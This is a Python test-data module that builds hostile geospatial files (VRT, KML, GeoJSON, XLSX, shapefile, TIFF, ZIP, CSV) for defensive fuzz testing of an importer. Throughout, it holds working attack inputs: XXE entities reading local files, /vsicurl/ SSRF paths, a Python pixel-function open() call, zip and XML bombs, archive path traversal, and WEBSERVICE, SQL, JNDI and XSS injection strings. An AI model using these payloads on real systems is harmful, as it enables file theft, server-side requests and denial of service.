"""Hostile files of every format, made here: they name a local file and an address, or never end."""

from __future__ import annotations

import gzip
import itertools
import json
import os
import struct
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.data.doctor import biff, making
from tests.data.doctor.reading import hostile_bases
from tests.fuzz import seeds

#: Id, file name, content.
Hostile = tuple[str, str, bytes]


def files(secret: Path, address: str) -> list[Hostile]:
    """Return all of them; ``secret`` is the path and ``address`` the server they aim at."""
    aims = {
        "file": str(secret), "csv": f"CSV:{secret}", "url": f"http://{address}/a",
        "curl": f"/vsicurl/http://{address}/a.csv", "zip": f"/vsizip//vsicurl/http://{address}/a.zip",
        "up": os.path.relpath(secret, "/tmp/a/b"), "stdin": "/vsistdin/",
    }  # fmt: skip
    makers = (
        _disguised, _streamed, _virtual_rasters, _followed_systems, _workbooks, hostile_bases.geopackages,
        _shapefiles, _texts, _rasters, hostile_bases.tiles,
        hostile_bases.spreadsheets, hostile_bases.services, _archives, _markup, _bent,
    )  # fmt: skip
    return [made for maker in makers for made in maker(aims)]


def _disguised(aims: dict[str, str]) -> Iterator[Hostile]:
    """Yield OGR's own virtual format behind a comment that says KML, under many names."""
    forms = {
        "plain": "<!-- <kml --><OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>{aim}"
        "</SrcDataSource><SrcLayer>secret</SrcLayer></OGRVRTLayer></OGRVRTDataSource>",
        "sql": "<!-- <kml --><OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>{aim}"
        "</SrcDataSource><SrcSQL>SELECT * FROM a</SrcSQL></OGRVRTLayer></OGRVRTDataSource>",
        "inside": "<kml><OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>{aim}"
        "</SrcDataSource><SrcLayer>secret</SrcLayer></OGRVRTLayer></OGRVRTDataSource></kml>",
        "link": "<kml xmlns='http://www.opengis.net/kml/2.2'><NetworkLink><Link><href>{aim}</href>"
        "</Link></NetworkLink></kml>",
    }  # fmt: skip
    names = ("a.kml", "a.xml", "a.json", "a.csv", "a.vrt", "a")
    for (form, text), (aim, path) in itertools.product(forms.items(), aims.items()):
        name = names[(len(form) + len(aim)) % len(names)]
        yield f"kml-{form}-{aim}", name, text.format(aim=path).encode()
    for name in names:
        yield f"kml-named-{name}", name, forms["plain"].format(aim=aims["csv"]).encode()
    utf16 = forms["plain"].format(aim=aims["csv"]).encode("utf-16")
    yield "kml-utf16", "a.kml", utf16
    yield "kml-zipped", "a.kmz", making.zipped({"doc.kml": forms["plain"].format(aim=aims["csv"]).encode()})  # fmt: skip


def _streamed(aims: dict[str, str]) -> Iterator[Hostile]:
    """Yield GDAL's stored commands as JSON."""
    commands = (
        "gdal vector pipeline ! read {aim}", "gdal vector pipeline ! read {aim} ! write a.json",
        "gdal raster info {aim}",
    )  # fmt: skip
    for (i, command), (aim, path) in itertools.product(enumerate(commands), aims.items()):
        what = {"type": "gdal_streamed_alg", "command_line": command.format(aim=path)}
        name = ("a.geojson", "a.json", "a.topojson", "a.gdalg.json")[(i + len(aim)) % 4]
        yield f"gdalg-{i}-{aim}", name, json.dumps(what).encode()
    tile = json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal raster info {aims['file']}"})  # fmt: skip
    yield "gdalg-hgt", "N25E102.hgt", tile.encode().ljust(2 * 1201 * 1201)
    whole = VRT.format(source=SOURCE.format(own=1, name="N25E102.hgt"))
    yield (
        "gdalg-tile", "a.zip",
        making.zipped({"a.vrt": whole.encode(), "N25E102.hgt": tile.encode().ljust(2 * 1201 * 1201)}),
    )  # fmt: skip


VRT = """<VRTDataset rasterXSize="2" rasterYSize="2"><SRS>EPSG:4326</SRS>
<GeoTransform>102,1,0,26,0,-1</GeoTransform><VRTRasterBand dataType="Int16" band="1">{source}
</VRTRasterBand></VRTDataset>"""
SOURCE = """<SimpleSource><SourceFilename relativeToVRT="{own}">{name}</SourceFilename>
<SourceBand>1</SourceBand></SimpleSource>"""


def _spelled(path: str) -> dict[str, str]:
    """Return ways to write a path in XML."""
    return {
        "plain": path, "dec": path.replace("/", "&#47;"), "hex": path.replace("/", "&#x2f;"),
        "all": "".join(f"&#x{ord(letter):x};" for letter in path),
        "cdata": f"<![CDATA[{path}]]>", "split": path.replace("/", "<!-- -->/", 1),
        "blank": f"\n {path}\t",
    }  # fmt: skip


def _virtual_rasters(aims: dict[str, str]) -> Iterator[Hostile]:
    """Yield VRT that name files, addresses and code, with a decoy of that literal name."""
    for aim, path in aims.items():
        for way, name in _spelled(path).items():
            virtual = VRT.format(source=SOURCE.format(own=1, name=name)).encode()
            decoy = name.lstrip("/").replace("..", "__").replace(":", "_") or "x"
            yield f"vrt-{aim}-{way}", "a.zip", making.zipped({"a.vrt": virtual, decoy: _tif()})
    secret, url = aims["file"], aims["curl"]
    forms = {
        "absolute": VRT.format(source=SOURCE.format(own=0, name=secret)),
        "silent": VRT.format(source=SOURCE.format(own=1, name=secret)).replace(' relativeToVRT="1"', ""),
        "raw": '<VRTDataset rasterXSize="2" rasterYSize="2"><VRTRasterBand dataType="Byte" band="1" '
        f'subClass="VRTRawRasterBand"><SourceFilename relativeToVRT="1">{secret.replace("/", "&#47;")}'
        "</SourceFilename><ImageOffset>0</ImageOffset></VRTRasterBand></VRTDataset>",
        "warped": VRT.format(source="").replace("<SRS>", f"<GDALWarpOptions><SourceDataset>{url}</SourceDataset></GDALWarpOptions><SRS>"),
        "pansharpened": '<VRTDataset subClass="VRTPansharpenedDataset"><PansharpeningOptions><PanchroBand>'
        f"<SourceFilename>{url}</SourceFilename></PanchroBand></PansharpeningOptions></VRTDataset>",
        "python": VRT.format(source=SOURCE.format(own=1, name="t.tif")).replace(
            'band="1"', 'band="1" subClass="VRTDerivedRasterBand"').replace(
            "<SimpleSource>", "<PixelFunctionLanguage>Python</PixelFunctionLanguage>"
            f"<PixelFunctionCode>open({secret!r})</PixelFunctionCode><SimpleSource>"),
        "processed": '<VRTDataset subClass="VRTProcessedDataset"><Input><SourceFilename '
        f'relativeToVRT="0">{secret}</SourceFilename></Input></VRTDataset>',
        "nested": VRT.format(source=SOURCE.format(own=1, name="b.vrt")),
        "inline": VRT.format(source=SOURCE.format(own=1, name="&lt;VRTDataset/&gt;")),
        "vrt": VRT.format(source=SOURCE.format(own=1, name=f"vrt://{secret}")),
        "overview": VRT.format(source=f"<Overview><SourceFilename relativeToVRT='0'>{secret}</SourceFilename></Overview>"),
        "mask": VRT.format(source=f"<MaskBand>{SOURCE.format(own=0, name=secret)}</MaskBand>"),
        "array": f"<VRTDataset><Group name='/'><Array name='a'><DataType>Byte</DataType><Source><SourceFilename>{secret}</SourceFilename></Source></Array></Group></VRTDataset>",
        "entity": f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{secret}">]>' + VRT.format(source=SOURCE.format(own=1, name="&b;")),
        "laughs": '<!DOCTYPE a [<!ENTITY b "xxxxxxxxxx">' + "".join(
            f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in itertools.pairwise("bcdefghijk")
        ) + "]>" + VRT.format(source="&k;"),
        "deep": "<VRTDataset>" + "<VRTRasterBand>" * 20_000,
        "srs": VRT.format(source="").replace("EPSG:4326", url),
        "number": VRT.format(source="").replace("102,", f"{url},"),
    }  # fmt: skip
    for form, text in forms.items():
        inside = {"a.vrt": text.encode(), "t.tif": _tif(), "b.vrt": text.encode()}
        yield f"vrt-{form}", "a.zip", making.zipped(inside)
        yield f"vrt-{form}-alone", "a.vrt", text.encode()
    yield "vrt-utf16", "a.vrt", forms["absolute"].encode("utf-16")


def _followed_systems(aims: dict[str, str]) -> Iterator[Hostile]:
    """Yield GeoJSON whose coordinate system is to be looked up."""
    url = aims["url"]
    values = {
        "link": {"type": "link", "properties": {"href": url, "type": "proj4"}},
        "url": {"type": "url", "properties": {"url": url}},
        "file": {"type": "file", "properties": {"href": aims["file"]}},
        "name": {"type": "name", "properties": {"name": url}},
        "both": {"type": "name", "properties": {"name": "EPSG:4326", "href": url}},
        "ogc": {"type": "OGC", "properties": {"urn": url}},
    }
    keys = ('"crs"', '"CRS"', '"\\u0063rs"', "'crs'", '"cr\\u0073"')
    for (kind, value), (i, key) in itertools.product(values.items(), enumerate(keys)):
        shape = '{"type":"Point","coordinates":[100,25]}'
        crs = f"{key}:{json.dumps(value)}"
        whole = f'{{"type":"FeatureCollection",{crs},"features":[{{"type":"Feature","geometry":{shape},"properties":{{}}}}]}}'  # fmt: skip
        yield f"crs-{kind}-{i}", "a.geojson", whole.encode()
        inner = f'{{"type":"FeatureCollection","features":[{{"type":"Feature","geometry":{shape[:-1]},{crs}}},"properties":{{}}}}]}}'  # fmt: skip
        yield f"crs-inner-{kind}-{i}", ("a.json", "a.geojson")[i % 2], inner.encode()
    yield "crs-comment", "a.geojson", f'{{"type":"FeatureCollection","crs"/**/:{json.dumps(values["link"])},"features":[]}}'.encode()  # fmt: skip


def _workbooks(aims: dict[str, str]) -> Iterator[Hostile]:
    plain = making.workbook(("a", [["村名", "户数"], ["甲", 20]], []))
    cells = {
        "far": '<c r="XFD1048576"><v>1</v></c>', "single": "<c r='ZZZZZZ99999999999'><v>1</v></c>",
        "lower": '<c r="xfd1048576"><v>1</v></c>', "spaced": '<c  r = "XFD1048576"><v>1</v></c>',
        "late": '<c s="1" r="XFD1048576"><v>1</v></c>', "row": "<row r='4294967295'/>",
        "none": "<c r=''><v>1</v></c>", "letters": '<c r="AAAAAAAAAAAAAAAAAAAA1"><v>1</v></c>',
        "digits": f'<c r="A{"9" * 400}"><v>1</v></c>', "negative": '<c r="A-1"><v>1</v></c>',
        "shared": '<c r="A2" t="s"><v>4294967295</v></c>', "bang": "<c r='A&#49;'><v>1</v></c>",
    }  # fmt: skip
    for name, cell in cells.items():
        row = cell if cell.startswith("<row") else f"<row>{cell}</row>"
        text = lambda old, row=row: old.replace(b"</sheetData>", row.encode() + b"</sheetData>")  # noqa: E731
        yield f"xlsx-{name}", "a.xlsx", _changed(plain, "xl/worksheets/sheet1.xml", text)
    parts = {
        "dtd": ("xl/sharedStrings.xml", lambda old: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file://' + aims["file"].encode() + b'">]>' + old),
        "external": ("xl/workbook.xml", lambda old: old.replace(b"</workbook>", f'<externalReferences><externalReference r:id="{aims["url"]}"/></externalReferences></workbook>'.encode())),
        "relation": ("xl/_rels/workbook.xml.rels", lambda old: old.replace(b"worksheets/sheet1.xml", b"../../../.." + aims["file"].encode())),
        "merged": ("xl/worksheets/sheet1.xml", lambda old: old.replace(b"</worksheet>", b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>')),
        "dimension": ("xl/worksheets/sheet1.xml", lambda old: old.replace(b"<sheetData>", b'<dimension ref="A1:ZZZZZ99999999"/><sheetData>')),
        "cut": ("xl/worksheets/sheet1.xml", lambda old: old[:-30]),
        "deep": ("xl/worksheets/sheet1.xml", lambda old: old.replace(b"<sheetData>", b"<a>" * 50_000 + b"<sheetData>")),
        "strings": ("xl/sharedStrings.xml", lambda _old: b'<sst count="4294967295" uniqueCount="4294967295">'),
        "empty": ("xl/workbook.xml", lambda _old: b""),
    }  # fmt: skip
    for name, (part, change) in parts.items():
        yield f"xlsx-{name}", "a.xlsx", _changed(plain, part, change)
    bomb = b"<worksheet><sheetData>" + b" " * 100_000_000
    yield "xlsx-bomb", "a.xlsx", _changed(plain, "xl/worksheets/sheet1.xml", lambda _old: bomb)
    old = biff.workbook({"a": [["村名", "户数"], ["甲", 20.0]]})
    for at in range(512, len(old) - 8, max(1, (len(old) - 520) // 10)):
        yield f"xls-{at}", "a.xls", old[:at] + b"\xff" * 8 + old[at + 8 :]


def _changed(book: bytes, part: str, change: object) -> bytes:
    with tempfile.SpooledTemporaryFile() as stream:
        stream.write(book)
        with zipfile.ZipFile(stream) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
    parts[part] = change(parts.get(part, b""))  # type: ignore[operator]
    return making.zipped(parts)


def _shapefiles(aims: dict[str, str]) -> Iterator[Hostile]:
    plain = making.shapefile()
    huge = struct.pack("<I", 0xFFFFFFF0)
    changes = {
        "rows": (".dbf", 4, huge), "header": (".dbf", 8, b"\xff\xff"), "width": (".dbf", 10, b"\xff\xff"),
        "field": (".dbf", 48, b"\xff"), "length": (".shp", 24, b"\x7f\xff\xff\xff"),
        "content": (".shp", 104, b"\x7f\xff\xff\xff"), "kind": (".shp", 32, b"\x1f\0\0\0"),
        "box": (".shp", 36, struct.pack("<4d", *[float("nan")] * 4)),
        "index": (".shx", 100, b"\x7f\xff\xff\xff" * 4),
    }  # fmt: skip
    for name, (suffix, at, what) in changes.items():
        made = {
            key: value[:at] + what + value[at + len(what) :] if key.endswith(suffix) else value
            for key, value in plain.items()
        }
        yield f"shp-{name}", "a.zip", making.zipped(made)
    for name, text in {
        "prj": aims["url"], "long": "A[" * 50_000, "vsi": aims["curl"], "file": f"@{aims['file']}",
    }.items():  # fmt: skip
        yield f"shp-prj-{name}", "a.zip", making.zipped(plain | {"villages.prj": text.encode()})
    for name, text in {"cpg": "../../etc", "format": "{0.__class__}", "null": "\0" * 9}.items():
        yield f"shp-cpg-{name}", "a.zip", making.zipped(plain | {"villages.cpg": text.encode()})
    lines = b"\0\0\x27\x0a" + b"\0" * 24 + b"\xe8\x03\0\0\x03\0\0\0" + b"\0" * 64
    parts = struct.pack(">2i", 1, 5_000) + struct.pack(
        "<i4d2i", 3, 0, 0, 0, 0, 2**31 - 1, 2**31 - 1
    )
    yield "shp-parts", "a.zip", making.zipped({"a.shp": lines + parts})


def _texts(aims: dict[str, str]) -> Iterator[Hostile]:
    names = {
        "format": "{0.__class__.__mro__}", "percent": "%s%n%d", "markup": "<img src=x onerror=alert(1)>",
        "markdown": f"![a]({aims['url']})", "sql": "'; DROP TABLE tongcun_imports; --",
        "formula": '=WEBSERVICE("' + aims["url"] + '")', "null": "a\0b", "path": "../../../etc/passwd",
        "rtl": "\u202egpj.exe", "long": "长" * 300_000, "template": "${jndi:ldap://a}", "tab": "a\tb",
        "toml": '"""\n[a]', "surrogate": "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    }  # fmt: skip
    for name, text in names.items():
        quoted = text.replace('"', '""')
        content = f'"{quoted}",经度,纬度,村名\n1,100,25,"{quoted}"\n'.encode("utf-8", "replace")
        yield f"csv-{name}", "a.csv", content
        yield f"csv-named-{name}", f"{text[:60]}.csv", content
    wkt = {
        "deep": "GEOMETRYCOLLECTION(" * 20_000, "many": "MULTIPOINT(" + "(1 2)," * 100_000 + "(1 2))",
        "nan": "POINT(nan nan)", "cut": "POLYGON((1 2, 3", "huge": "POINT(1e308 -1e308)",
    }  # fmt: skip
    for name, text in wkt.items():
        yield f"wkt-{name}", "a.csv", f'wkt,村名\n"POINT(1 2)",a\n"{text}",甲\n'.encode()
    yield "csv-columns", "a.csv", b"a," * 500_000 + b"\n"
    yield "csv-rows", "a.csv", b"a\n" * 7_000_000
    yield "csv-quote", "a.csv", b'"' + b"a\n" * 200_000
    yield "csv-utf32", "a.csv", "经度,纬度\n1,2\n".encode("utf-32")


def _rasters(aims: dict[str, str]) -> Iterator[Hostile]:
    plain = _tif()
    directory = struct.unpack("<I", plain[4:8])[0]
    for tag in (256, 257, 258, 259, 273, 277, 278, 279, 322, 323, 324, 33550, 33922, 34735):
        for entry in range(struct.unpack("<H", plain[directory : directory + 2])[0]):
            at = directory + 2 + 12 * entry
            if struct.unpack("<H", plain[at : at + 2])[0] == tag:
                huge = struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFF0)
                yield f"tif-{tag}", "a.tif", plain[: at + 4] + huge + plain[at + 12 :]
    yield "tif-loop", "a.tif", plain[:4] + struct.pack("<I", 8) + struct.pack("<H", 1) + b"\0" * 12 + struct.pack("<I", 8)  # fmt: skip
    for share in (0.1, 0.5, 0.9):
        yield f"tif-cut-{share}", "a.tif", plain[: int(len(plain) * share)]
    for side in (20_000, 400_000, 2_000_000):
        yield f"tif-sparse-{side}", "a.tif", _tif(side)
    yield "hgt-text", "N25E102.hgt", b"<VRTDataset>".ljust(2 * 1201 * 1201)
    yield "hgt-name", "N99E999.hgt", making.hgt()
    yield (
        "tif-meta",
        "a.tif",
        plain + f"<GDALMetadata><Item>{aims['curl']}</Item></GDALMetadata>".encode(),
    )


def _tif(side: int = 4) -> bytes:
    """Return a GeoTIFF of so many cells a side, empty where it is large."""
    import rasterio
    from rasterio.transform import from_origin

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.tif"
        extra = {"sparse_ok": True, "tiled": True, "blockxsize": 4096, "blockysize": 4096}
        with rasterio.open(
            path, "w", driver="GTiff", width=side, height=side, count=1, dtype="int16",
            crs="EPSG:4326", transform=from_origin(102, 26, 1 / side, 1 / side), BIGTIFF="IF_SAFER",
            **(extra if side > 4096 else {}),
        ):  # fmt: skip
            pass
        return path.read_bytes()


def _archives(aims: dict[str, str]) -> Iterator[Hostile]:
    csv = making.villages_csv(2)
    for name in (
        "../a.csv",
        "/etc/a.csv",
        "C:\\a.csv",
        "a/../../b.csv",
        "..\\b.csv",
        aims["file"] + ".csv",
    ):
        yield f"zip-path-{name}", "a.zip", making.zipped({name: csv})
    yield "zip-link", "a.zip", _linked(aims["file"])
    yield "zip-many", "a.zip", making.zipped({f"{i}.csv": b"a" for i in range(10_001)})
    yield "zip-nested", "a.zip", making.zipped({"a.zip": making.zipped({"a.csv": csv})})
    yield "zip-bomb", "a.zip", making.zipped({"a.csv": b"0" * 100_000_000})
    yield "zip-lies", "a.zip", making.lying_zip("a.csv", b"a,b\n" * 900_000)
    yield "zip-locked", "a.zip", making.zipped({"a.csv": csv}).replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0")  # fmt: skip
    yield "zip-name", "a.zip", making.zipped({"{0.__class__}<b>.csv": csv})
    yield "zip-control", "a.zip", making.zipped({"a\n\x1b[2J.csv": csv})
    yield "zip-cut", "a.zip", making.zipped({"a.csv": csv})[:-20]
    yield "gz-bomb", "a.csv.gz", gzip.compress(b"0" * 100_000_000)
    yield "gz-nested", "a.csv.gz", gzip.compress(gzip.compress(csv))
    yield "gz-cut", "a.csv.gz", gzip.compress(csv)[:-9]
    yield "gz-zip", "a.csv.gz", gzip.compress(making.zipped({"a.csv": csv}))
    yield "zip-aux", "a.zip", making.zipped({"a.csv": csv, "CON.csv": csv, "a.csv/b.csv": csv})


def _linked(target: str) -> bytes:
    info = zipfile.ZipInfo("a.csv")
    info.external_attr = 0o120777 << 16
    with tempfile.SpooledTemporaryFile() as stream:
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr(info, target)
        stream.seek(0)
        return stream.read()


def _markup(aims: dict[str, str]) -> Iterator[Hostile]:
    entities = (
        f'<!DOCTYPE k [<!ENTITY a SYSTEM "file://{aims["file"]}">]>',
        f'<!DOCTYPE k SYSTEM "{aims["url"]}">', '<!DOCTYPE k [<!ENTITY a "&a;">]>',
        f'<!DOCTYPE k [<!ENTITY % a SYSTEM "{aims["url"]}"> %a;]>',
    )  # fmt: skip
    body = (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>{}</name></Placemark></kml>'
    )
    for i, entity in enumerate(entities):
        for code in ("utf-8", "utf-16"):
            text = f'<?xml version="1.0" encoding="{code}"?>{entity}' + body.format("&a;")
            yield f"kml-entity-{i}-{code}", "a.kml", text.encode(code)
    yield "kml-deep", "a.kml", (body[:44] + "<Folder>" * 50_000).encode()
    yield "kml-coordinates", "a.kml", body.replace("<name>{}</name>", "<Point><coordinates>" + "1,2 " * 500_000 + "</coordinates></Point>").encode()  # fmt: skip
    yield "svg", "a.kml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"
    yield "gml", "a.gml", b"<gml:FeatureCollection xmlns:gml='http://www.opengis.net/gml'/>"
    for i, depth in enumerate((1_000, 100_000)):
        deep = '{"type":"FeatureCollection","features":' + "[" * depth
        yield f"json-deep-{i}", "a.geojson", deep.encode()
    arcs = {"type": "Topology", "arcs": [], "objects": {"a": {"type": "LineString", "arcs": [5, -9, 2**40]}}}  # fmt: skip
    yield "topo-arcs", "a.topojson", json.dumps(arcs).encode()
    yield "dxf", "a.dxf", making.DXF.replace("ENTITIES\n  0\nPOINT", "ENTITIES\n  0\nINSERT\n  2\nA\n 70\n 99999999\n  0\nPOINT").encode()  # fmt: skip
    yield "mif", "a.mif", making.MIF.format(charset=aims["file"]).encode()


def _bent(_aims: dict[str, str]) -> Iterator[Hostile]:
    """Yield a file of each format with its head, middle or end broken."""
    for name, content in seeds.files().items():
        for at in (0.02, 0.3, 0.7):
            place = int(at * len(content))
            yield (
                f"bent-{name}-{at}",
                name,
                content[:place] + b"\xff\0\x80{<\"'" + content[place + 7 :],
            )
